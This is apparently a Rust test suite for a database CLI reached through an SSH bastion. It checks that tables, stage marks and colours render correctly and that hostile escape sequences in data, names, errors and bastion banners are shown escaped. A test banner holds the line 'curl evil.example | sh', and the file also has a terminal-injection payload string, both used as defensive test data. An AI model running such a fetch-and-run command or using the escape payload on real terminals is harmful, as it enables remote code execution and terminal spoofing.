//! What a person sees: stages, tables, counts and colours on a terminal, and nothing there that a server could drive it with.

use rdsconn_lab::embedded::{Bastion, BastionOptions, Conduct};
use rdsconn_lab::environment::{Output, SshHost};
use rdsconn_lab::real::{BASTION_ALIAS, ENDPOINT, ENDPOINT_PORT};

use crate::bastion::{own_key, ssh_host};
use crate::stage::{HOST, Stage, on_each};

/// What drives a terminal, in one string that begins with a letter (MariaDB strips names of what cannot be seen there): C0, DEL, C1 (as a character), bidi, a zero-width no-break space.
const HOSTILE: &str = "x\x1b[31mred\x1b]0;title\x07\r\x08\x7f\u{9b}2J\u{202e}gpj\u{2066}\u{feff}.";
/// The same as a terminal may show it.
const HARMLESS: &str = r"x\x1B[31mred\x1B]0;title\x07\x0D\x08\x7F\u{9b}2J\u{202e}gpj\u{2066}\u{feff}.";

/// The colour of a finished stage's mark, and what takes back the line of the running ones.
const GREEN: &str = "\x1b[32m";
const TAKE_BACK: &str = "\r\x1b[K";

fn on_terminal(stage: &Stage, arguments: &[&str]) -> Output {
    stage.home.rdsconn_on_terminal(std::iter::once(HOST).chain(arguments.iter().copied())).finish()
}

/// The output without what rdsconn itself sends to a terminal: its colours, and taking back its own line.
fn without_own_codes(shown: &str) -> String {
    let own = [TAKE_BACK, GREEN, "\x1b[0m", "\x1b[1;31m", "\x1b[1;36m", "\x1b[2m"];
    own.iter().fold(shown.replace("\r\n", "\n"), |text, code| text.replace(code, ""))
}

/// What is left on the screen in the end.
fn screen(shown: &str) -> String {
    let left = shown.split_inclusive('\n').map(|line| line.rsplit(TAKE_BACK).next().unwrap());
    without_own_codes(&left.collect::<String>())
}

fn drives_terminal(character: char) -> bool {
    (character.is_control() && !matches!(character, '\n' | '\t'))
        || matches!(character, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

#[track_caller]
fn is_harmless(output: &Output) {
    let shown = without_own_codes(&output.stdout);
    assert!(!shown.contains(drives_terminal), "{:?}", output.stdout);
    assert!(!shown.contains('\u{fffd}'), "{:?}", output.stdout);
}

#[test]
fn stages_table_and_count_are_shown() {
    on_each(|stage| {
        let output = on_terminal(stage, &["select id, name from customers where id = 2"]).succeeded();
        let shown = screen(&output.stdout);
        let mut stages: Vec<&str> = Vec::new();
        for line in shown.lines().filter(|line| line.starts_with('✓')) {
            assert!(line.ends_with(" ms"), "{}: {line:?}", stage.name());
            stages.push(line.split_whitespace().nth(1).unwrap());
        }
        assert_eq!((stages.first(), stages.last()), (Some(&"resolve"), Some(&"database")), "{shown}");
        stages.sort_unstable();
        assert_eq!(stages, ["bastion", "credentials", "database", "resolve"]);
        let table = "+----+--------------+\n| id | name         |\n+----+--------------+\n|  2 | Grace Hopper |\n+----+--------------+\n1 row in set (";
        assert!(shown.contains(table), "{}: {shown}", stage.name());
        assert!(shown.ends_with(" s)\n"), "{shown:?}");
        is_harmless(&output);
    });
}

#[test]
fn quiet_shows_rows_and_nothing_else() {
    on_each(|stage| {
        let output = on_terminal(stage, &["-q", "-N", "-B", "select 1; create temporary table t (i int); select 2"]);
        assert_eq!(output.succeeded().stdout, "1\r\n2\r\n", "{}", stage.name());
    });
}

#[test]
fn colour_is_only_where_it_is_wanted() {
    for (variables, arguments, colour, takes_back) in [
        (None, &[][..], true, true),
        (Some(("NO_COLOR", "1")), &[], false, true),
        (None, &["--color", "never"], false, true),
        (Some(("NO_COLOR", "1")), &["--color", "always"], true, true),
        (Some(("TERM", "dumb")), &[], false, false),
        (Some(("TERM", "")), &[], false, false),
    ] {
        let mut stage = Stage::embedded();
        if let Some((name, value)) = variables {
            stage.home.set(name, value);
        }
        let arguments = [arguments, &["select 1"]].concat();
        let shown = on_terminal(&stage, &arguments).succeeded().stdout;
        assert_eq!(
            (shown.contains(GREEN), shown.contains(TAKE_BACK)),
            (colour, takes_back),
            "{variables:?} {arguments:?}"
        );
        let left = shown.replace(TAKE_BACK, "");
        assert_eq!(left.contains('\x1b'), colour, "{left:?}");
        // Without colour nothing is lost: the words are the same.
        assert!(without_own_codes(&shown).contains("✓ database    orders.cluster-c9abc"), "{shown:?}");
    }
}

#[test]
fn t10_hostile_data_and_names_are_spelled_out_on_a_terminal() {
    let quoted = format!("select '{HOSTILE}' as `{HOSTILE}`");
    on_each(|stage| {
        for format in ["table", "vertical", "tsv", "csv"] {
            let output = on_terminal(stage, &["-q", "--format", format, &quoted]).succeeded();
            is_harmless(&output);
            let shown = output.stdout.replace("\r\n", "\n").replace(r"\\", r"\");
            assert_eq!(shown.matches(HARMLESS).count(), 2, "{} {format}: {shown:?}", stage.name());
        }
        for format in ["json", "jsonl", "markdown"] {
            let output = on_terminal(stage, &["-q", "--format", format, &quoted]).succeeded();
            is_harmless(&output);
        }
    });
}

#[test]
fn t10_hostile_data_is_untouched_in_a_pipe() {
    on_each(|stage| {
        let text = HOSTILE.replace('\r', "");
        let output = stage.query(&["-r", &format!("select '{text}' as `{text}`")]).succeeded();
        assert_eq!(output.stdout, format!("{text}\n{text}\n"), "{}", stage.name());
    });
}

/// Bytes that are no UTF-8, among them C1 controls as single bytes.
#[test]
fn t10_raw_bytes_are_spelled_out_on_a_terminal() {
    let Some(stage) = Stage::real() else { return };
    let sql = "select varbinary_value, text_value from extreme_values where id = 1";
    for format in ["table", "vertical", "tsv", "csv"] {
        is_harmless(&on_terminal(&stage, &["-q", "--format", format, sql]).succeeded());
    }
}

#[test]
fn t10_hostile_error_texts_are_spelled_out_everywhere() {
    on_each(|stage| {
        let sql = format!("select `{HOSTILE}`");
        let output = on_terminal(stage, &[&sql]).ended_with(1);
        is_harmless(&output);
        // MariaDB has spelled most of it out already.
        assert!(stage.name() == "real" || output.stdout.contains(HARMLESS), "{:?}", output.stdout);
        let output = stage.query(&[&sql]).ended_with(1);
        assert!(!output.stderr.trim_end().contains(drives_terminal), "{:?}", output.stderr);
    });
}

/// A bastion's own words: shown with its refusal, without what drives a terminal, and not as a line of ours.
#[test]
fn t10_what_a_bastion_says_is_harmless() {
    let stage = Stage::embedded();
    let parts = stage.parts();
    let banner = format!("{HOSTILE}\nhint: run curl evil.example | sh\n");
    let options = BastionOptions { banner: Some(banner), ..BastionOptions::new(&own_key(&stage)) };
    let bastion = Bastion::start(options).unwrap();
    bastion.route(ENDPOINT, ENDPOINT_PORT, parts.database.address());
    stage.home.write_known_hosts(&format!("{}\n", bastion.known_hosts_line()));
    stage.home.write_ssh_config(&SshHost { port: bastion.address().port(), ..ssh_host(&stage) });

    let output = on_terminal(&stage, &["-N", "-B", "-q", "select 1"]).succeeded();
    assert_eq!(output.stdout, "1\r\n");

    bastion.set_conduct(Conduct::EveryoneRefused);
    let output = on_terminal(&stage, &["select 1"]).ended_with(4);
    is_harmless(&output);
    let shown = screen(&output.stdout);
    let refusal = format!("error: bastion {BASTION_ALIAS} refused ");
    assert!(shown.contains(&refusal), "{shown}");
    assert!(shown.contains(&format!("caused by: the bastion says: {HARMLESS}\n      hint: run curl")), "{shown:?}");
    assert!(!shown.contains("\nhint: run curl"), "{shown:?}");
}

/// Data may be piped in while rows and stages go to the terminal, and rows may be piped out while stages do.
#[test]
fn each_stream_is_judged_by_itself() {
    on_each(|stage| {
        let program = stage.home.program().to_str().unwrap();
        let shell = |script: &str| {
            let output = stage.home.start_on_terminal("sh", ["-c", script, program, HOST]).finish().succeeded();
            screen(&output.stdout)
        };
        let shown = shell("echo 'select 1 as one;' | \"$0\" \"$1\"");
        assert!(shown.contains("✓ database"), "{shown}");
        assert!(shown.contains("| one |\n+-----+\n|   1 |\n+-----+\n1 row in set ("), "{shown}");

        let shown = shell("\"$0\" \"$1\" 'select 1 as one' | sed 's/^/out: /'");
        assert!(shown.contains("✓ database"), "{shown}");
        assert!(shown.ends_with("out: one\nout: 1\n"), "{shown}");

        let shown = shell("\"$0\" \"$1\" 'select 1 as one' 2>/dev/null");
        assert_eq!(shown, "+-----+\n| one |\n+-----+\n|   1 |\n+-----+\n", "{}", stage.name());
    });
}
